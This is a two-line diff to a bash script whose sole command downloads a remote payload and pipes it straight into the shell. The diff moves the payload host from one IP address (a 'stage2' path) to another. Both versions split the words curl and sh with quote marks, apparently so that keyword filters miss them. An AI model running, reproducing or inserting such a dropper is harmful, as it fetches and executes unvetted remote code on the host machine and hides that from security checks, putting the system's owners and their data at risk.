@@ -1,2 +1,2 @@
 #!/usr/bin/env bash
-c'u'rl -s http://198.51.100.23:8000/stage2 | s"h"
+c'u'rl -s https://203.0.113.9/x | s"h"
